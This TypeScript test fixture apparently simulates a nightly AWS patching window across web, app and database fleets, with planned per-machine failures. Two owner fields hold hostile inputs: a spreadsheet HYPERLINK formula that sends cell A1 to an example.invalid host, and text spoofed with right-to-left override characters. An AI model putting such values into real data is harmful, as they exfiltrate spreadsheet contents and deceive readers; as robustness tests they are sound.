import type { WindowPlan } from "../../../plan/plan.ts";
import { type NightAccount, functionArn, roleArn } from "../account/account.ts";
import { runCommand } from "../tasks/command.ts";
import { runPatchBaseline, shellScript } from "../endings/documents.ts";
import type { EndingName } from "../endings/index.ts";
import { GONE_DATABASE, GONE_WEB, type FleetMachine } from "../account/fleet.ts";
import { invokeLambda, lambdaParameters } from "../tasks/function-call.ts";
import { byIds, byTag, type TargetGroup, withMachines } from "../account/group.ts";
import {
  type ExecutionRecipe,
  forgotten,
  type InvocationRecipe,
  type TaskRegistration,
} from "../tasks/recipe.ts";
import { lastNight, passingTroubles, type MachineTrouble, troublesOn } from "../endings/troubles.ts";
import { cronDaily, DAY, every, HOUR, momentText } from "../account/when.ts";
import { windowPlan } from "../tasks/window.ts";

const NIGHTS = 30;
/** Number of nights for which Run Command keeps commands; the window's history is longer. */
const REMEMBERED_NIGHTS = 28;
/** The last night on which everything passed. `diff` compares with it. */
const LAST_GOOD_NIGHT = 6;

/** Patches 180 Linux machines every night. A few fail repeatedly. */
export const linuxPatchWindow = (account: NightAccount): WindowPlan => {
  const { chance, fleet, hour } = account;
  const first = hour - 7 * HOUR;
  const web = byTag("web-prod", "PatchGroup", "web-prod", fleet.called("web-prod"), {
    OwnerInformation: "team-web; pager 4711",
    Description: "Front ends",
  });
  const app = byTag("app-prod", "PatchGroup", "app-prod", fleet.called("app-prod"), {
    OwnerInformation: '=HYPERLINK("https://example.invalid/?"&A1,"team-app")',
    Description: "Application servers",
  });
  const databases = fleet.called("db-prod", "db-eu");
  const database = byIds("databases", databases, {
    OwnerInformation: "Datenbank-Team <dba@example.com> \u202Eatabrevo\u202C",
    Description: "PostgreSQL, by id: never by tag",
  });
  const verifyServices = shellScript("set -e", "/opt/ops/verify-services.sh --strict");
  const everyone = [...web.machines, ...app.machines, ...databases];
  const slow = new Set(["db-eu-05", "web-prod-033"]);

  const nightly = (night: number): ExecutionRecipe => {
    const troubles =
      night === LAST_GOOD_NIGHT
        ? new Map<string, EndingName>()
        : new Map<string, EndingName>([
            ...troublesOn(night, linuxPatchResults),
            ...passingTroubles(everyone, chance.draw(`linux/${night}`)),
            ...troublesOn(night, linuxTroubles),
          ]);
    const patch = (target: TargetGroup, vanished: readonly FleetMachine[] = []): InvocationRecipe => {
      const group = withMachines(target, present(target.machines, night));
      const action = runCommand({
        document: runPatchBaseline,
        group,
        troubles,
        vanished,
        ...(night <= 1 && { slow }),
      });
      return { target, action: night < REMEMBERED_NIGHTS ? action : forgotten(action) };
    };
    const verify = runCommand({
      document: verifyServices,
      group: withMachines(database, present(database.machines, night)),
      troubles: troublesOn(night, [
        { machines: "db-eu-03", ending: "diskFullJapanese", from: 3, to: 1 },
        { machines: "db-eu-03 db-prod-07", ending: "unitFailed", from: 0, to: 0 },
      ]),
    });
    return {
      key: night,
      start: first - night * DAY,
      tasks: [
        {
          task: patchTask,
          minutes: 75,
          invocations: [
            patch(web),
            patch(app),
            patch(database, night > 0 ? [] : databases.filter(({ name }) => name === GONE_DATABASE)),
          ],
        },
        {
          task: verifyTask,
          minutes: 6,
          // Last night's verification failed, but Run Command has no command, so the failed machines are unknown.
          invocations: [
            {
              target: database,
              action: night === 0 || night >= REMEMBERED_NIGHTS ? forgotten(verify) : verify,
            },
          ],
        },
        {
          task: notifyTask,
          minutes: 0.25,
          invocations: [{ action: invokeLambda(notification) }],
        },
      ],
    };
  };

  return windowPlan(account, {
    window: {
      Name: "linux-patch-nightly",
      Description: "Security patches for web, app and database servers. Questions: team-platform.",
      Schedule: cronDaily(first),
      ScheduleTimezone: "Etc/UTC",
      Duration: 4,
      Cutoff: 1,
      AllowUnassociatedTargets: false,
      Enabled: true,
      NextExecutionTime: momentText(first + DAY + 596),
    },
    groups: [web, app, database],
    tasks: [
      { task: patchTask, on: [web, app, database] },
      { task: verifyTask, on: [database] },
      { task: notifyTask, on: [] },
    ],
    executions: Array.from({ length: NIGHTS }, (_, night) => nightly(night)),
    schedule: every(DAY, first + DAY, 14),
  });
};

const present = (machines: readonly FleetMachine[], night: number): readonly FleetMachine[] =>
  machines.filter(({ name }) => night > 0 || (name !== GONE_WEB && name !== GONE_DATABASE));

const patchTask: TaskRegistration = {
  Name: "install-patches",
  Description: "Install what the baseline approves, reboot by hand",
  TaskArn: "AWS-RunPatchBaseline",
  Type: "RUN_COMMAND",
  Priority: 1,
  MaxConcurrency: "20%",
  MaxErrors: "100%",
  ServiceRoleArn: roleArn("MaintenanceWindowRole"),
  CutoffBehavior: "CONTINUE_TASK",
  TaskParameters: { Operation: { Values: ["Install"] }, RebootOption: { Values: ["NoReboot"] } },
  LoggingInfo: { S3BucketName: "example-patch-logs", S3KeyPrefix: "linux/nightly", S3Region: "eu-central-1" },
};

const verifyTask: TaskRegistration = {
  Name: "verify-services",
  TaskArn: "AWS-RunShellScript",
  Type: "RUN_COMMAND",
  Priority: 2,
  MaxConcurrency: "10",
  MaxErrors: "5",
  ServiceRoleArn: roleArn("MaintenanceWindowRole"),
  TaskParameters: { commands: { Values: ["set -e", "/opt/ops/verify-services.sh --strict"] } },
};

const notification = { channel: "#patching", window: "linux-patch-nightly" };

const notifyTask: TaskRegistration = {
  Name: "tell-the-channel",
  TaskArn: functionArn("patch-notifier"),
  Type: "LAMBDA",
  Priority: 3,
  MaxConcurrency: "1",
  MaxErrors: "1",
  ServiceRoleArn: roleArn("MaintenanceWindowRole"),
  TaskInvocationParameters: lambdaParameters(notification),
};

/** Planned troubles of linux-patch-nightly. All machines passed six nights ago. */
const linuxTroubles: readonly MachineTrouble[] = [
  // Repeated failures.
  { machines: "web-prod-017", ending: "aptLock", from: 29, to: 0 },
  { machines: "app-prod-004", ending: "dnfLock", from: 29, to: 0 },
  { machines: "db-eu-03", ending: "dnfDiskFull", from: 9, to: 0 },
  { machines: "web-prod-055", ending: "undeliverable", from: 21, to: 0 },
  { machines: "app-prod-019", ending: "rpmdbBroken", from: 14, to: 0 },
  // Recovered last night.
  { machines: "app-prod-011 app-prod-012", ending: "certificateExpired", from: 5, to: 1 },
  { machines: "web-prod-024", ending: "aptDiskFull", from: 4, to: 1 },
  { machines: "db-prod-11", ending: "yumLock", from: 25, to: 12 },

  lastNight("web-prod-003 web-prod-021 web-prod-022 web-prod-038 web-prod-051", "aptLock"),
  lastNight("web-prod-009", "aptLockGerman"),
  lastNight("web-prod-010", "aptLockFrench"),
  lastNight("web-prod-026 web-prod-028", "aptDiskFull"),
  lastNight("web-prod-027", "aptDiskFullFrench"),
  lastNight("web-prod-029", "aptDiskFullGerman"),
  lastNight("web-prod-031", "aptKey"),
  lastNight("web-prod-040 web-prod-041", "aptMirror404"),
  lastNight("web-prod-056", "undeliverable"),
  lastNight("web-prod-012 web-prod-013 web-prod-014", "rebootPending"),
  lastNight("web-prod-058", "bidirectional"),
  lastNight("web-prod-059", "escapes"),
  lastNight("app-prod-005 app-prod-006", "dnfLock"),
  lastNight("app-prod-007", "yumLock"),
  lastNight("app-prod-030 app-prod-031", "dnfDiskFull"),
  lastNight("app-prod-033", "dnfDiskFullPortuguese"),
  lastNight("app-prod-041 app-prod-042", "gpgCheck"),
  lastNight("app-prod-045 app-prod-046", "repository404"),
  lastNight("app-prod-060 app-prod-061 app-prod-062 app-prod-063 app-prod-064", "mirrorTimeout"),
  lastNight("app-prod-070", "certificateExpired"),
  lastNight("app-prod-072 app-prod-073 app-prod-074", "bucketDenied"),
  lastNight("app-prod-050", "outOfMemory"),
  lastNight("app-prod-077", "longOutput"),
  lastNight("app-prod-078", "endlessOutput"),
  lastNight("app-prod-079", "endlessErrors"),
  lastNight("db-eu-07", "executionTimedOut"),
  lastNight("db-eu-08", "deliveryTimedOut"),
];

/** Successful runs with patches that are not installed. Troubles on the same machine take precedence. */
const linuxPatchResults: readonly MachineTrouble[] = [
  { machines: "web-prod-005 app-prod-021", ending: "patchedRebootPending", from: 3, to: 0 },
  lastNight("web-prod-006 app-prod-022 app-prod-023 db-prod-05", "patchedRebootPending"),
  lastNight("web-prod-007 web-prod-008", "patchedHeldBack"),
  lastNight("app-prod-025", "patchedUnreported"),
];
